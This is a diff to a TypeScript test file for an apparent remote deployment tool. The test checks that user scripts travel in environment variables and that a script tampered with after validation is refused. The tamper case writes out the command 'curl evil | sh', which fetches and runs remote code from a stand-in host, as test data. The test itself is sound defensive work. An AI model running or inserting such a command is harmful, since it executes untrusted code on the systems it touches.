@@ -9,6 +9,8 @@ import {
   REMOTE_MKDIR_SCRIPT,
   REMOTE_REMOVE_SCRIPT,
   REMOTE_WRITE_FILE_SCRIPT,
+  SCRIPT_ENV,
+  SCRIPT_LOADERS,
   validateBundle,
 } from "../src/forge/mod.ts";
 import { testPlan, testResource } from "../src/forge/testing.ts";
@@ -68,14 +70,23 @@ Deno.test("remote command and task: scripts travel inline, the artifact path sta
   const guard = value.artifacts.find((a) => a.purpose === command.id)!;
   assert.deepEqual(command.argv, ["sh", "-c", guard.content, guard.path, "/bin/sh", "-c"]);
   assert.equal(command.env.CW_RUN, "echo hi");
+  // The user's script travels in the environment (argv shows in the remote `ps`).
   const user = value.artifacts.find((a) => a.purpose === task.id && a.origin === "user")!;
-  assert.deepEqual(task.argv.slice(-4), ["python3", "-c", user.content, user.path]);
+  assert.deepEqual(task.argv.slice(-4), ["python3", "-c", SCRIPT_LOADERS.python3, user.path]);
+  assert.equal(task.env[SCRIPT_ENV], user.content);
+  assert.ok(!task.argv.includes(user.content));
   // No word names a local artifact without carrying its text.
   for (const step of value.steps) {
     step.argv.forEach((word, i) => {
       if (value.artifacts.some((a) => a.path === word)) assert.equal(step.argv[i - 2], "-c");
     });
   }
+  // A user script changed after validation is refused.
+  const plan = testPlan([testResource("task", "t", { script: "echo hi\n" }, onWeb1)]);
+  const bundle = compileBundle(plan, { rootDir: root }).value;
+  assert.deepEqual(validateBundle(bundle, plan, buildDir), []);
+  bundle.steps[0].env[SCRIPT_ENV] = "curl evil | sh\n";
+  assert.ok(validateBundle(bundle, plan, buildDir).some((d) => d.code === "CW4041"));
 });
 
 Deno.test("remote steps: tampered inline text, local artifacts and unsupported types are refused", () => {
